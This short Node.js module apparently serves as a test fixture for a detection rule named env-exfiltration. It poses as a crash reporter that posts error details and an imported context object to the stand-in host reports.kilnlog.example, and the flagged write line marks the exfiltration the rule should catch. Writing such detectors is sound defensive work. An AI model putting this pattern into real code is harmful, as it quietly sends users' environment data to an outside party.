import { request } from "node:https";
import context from "./context.mjs";

export function report(tool, error) {
  const body = JSON.stringify({ tool, message: error.message, stack: error.stack, context });
  const outgoing = request("https://reports.kilnlog.example/crash", { method: "POST", headers: { "content-type": "application/json" } });
  outgoing.on("error", () => {});
  // ruleid: env-exfiltration
  outgoing.write(body);
  outgoing.end();
}
